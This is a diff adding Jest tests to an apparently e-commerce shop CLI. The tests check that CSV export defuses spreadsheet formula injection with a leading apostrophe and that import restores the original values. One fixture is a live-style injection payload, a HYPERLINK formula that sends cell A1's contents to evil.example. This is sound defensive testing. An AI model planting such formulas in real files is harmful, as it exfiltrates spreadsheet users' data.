@@ -1,7 +1,8 @@
-import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
 import sharp from 'sharp';
+import { neutralizeFormula, restoreFormula } from '../cli/productFiles';
 import { runCli } from '../cli/program';
 import { catalog, fillCart, orderBodyFor } from './fixtures';
 import { DATABASE_KINDS, startTestShop } from './harness';
@@ -110,6 +111,28 @@ describe.each(DATABASE_KINDS)('npm run shop (%s)', (kind) => {
     expect(JSON.parse(again.stdout)).toEqual(exported);
   });
 
+  it('exports cells a spreadsheet would run as formulas with a leading apostrophe, and imports them back as they were', async () => {
+    const risky = [
+      { id: 'cli-formula-a', name: '=HYPERLINK("http://evil.example/?x="&A1,"Click for a discount")', description: '+1 555 0100' },
+      { id: 'cli-formula-b', name: "@SUM(A1:A9)", description: "-5% today, 'quoted' and fine" },
+      { id: 'cli-formula-c', name: "'=already quoted", description: 'A plain description' },
+    ];
+    const rows = risky.map((product) => ({ ...product, price: 100, category: 'Men', subCategory: 'Topwear', sizes: ['M'], image: ['/images/hero.svg'] }));
+    writeFileSync(path.join(workDir, 'risky.json'), JSON.stringify(rows));
+    expect((await cli('products', 'import', 'risky.json')).code).toBe(0);
+    const csv = await cli('products', 'export', '--out', 'risky.csv');
+    expect(csv.code).toBe(0);
+    const text = readFileSync(path.join(workDir, 'risky.csv'), 'utf8');
+    expect(text).toContain('cli-formula-a,"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click for a discount"")",\'+1 555 0100,');
+    expect(text).toContain("cli-formula-b,'@SUM(A1:A9),\"'-5% today, 'quoted' and fine\",");
+    expect(text).toContain("cli-formula-c,''=already quoted,A plain description,");
+
+    await shop.app.db.deleteFrom('products').where('id', 'like', 'cli-formula-%').execute();
+    expect((await cli('products', 'import', 'risky.csv')).code).toBe(0);
+    const back = await shop.app.db.selectFrom('products').select(['id', 'name', 'description']).where('id', 'like', 'cli-formula-%').orderBy('id').execute();
+    expect(back).toEqual(risky);
+  });
+
   it('adds a product from the command line and removes it again', async () => {
     const add = await cli('products', 'add', '--id', 'cli-added', '--name', 'Kids Navy Hoodie', '--description', 'Warm.', '--price', '1299.50', '--category', 'Kids', '--type', 'Winterwear', '--sizes', '4-5Y', '6-7Y', '--image', 'navy.jpg', '--bestseller');
     expect(add).toMatchObject({ code: 0, stdout: 'Added cli-added.\n' });
@@ -162,6 +185,14 @@ describe.each(DATABASE_KINDS)('npm run shop (%s)', (kind) => {
     const code = await runCli(['users', 'list'], { env: { DATABASE_URL: 'postgres://postgres@127.0.0.1:1/shop' }, cwd: workDir, stdout: () => undefined, stderr: (text) => (stderr += text) });
     expect(code).toBe(1);
     expect(stderr).toMatch(/^The database is unreachable .*Check DATABASE_URL/);
+  });
+});
+
+describe('CSV cells a spreadsheet would run', () => {
+  it.each(['=1+1', '+44 20', '-5%', '@SUM(A1)', '\t=1', '\r=1', "'=quoted", "''+twice", 'plain', "'plain", ''])('are written inert and read back as they were: %j', (cell) => {
+    const written = neutralizeFormula(cell);
+    expect(/^[=+\-@\t\r]/.test(written)).toBe(false);
+    expect(restoreFormula(written)).toBe(cell);
   });
 });
 
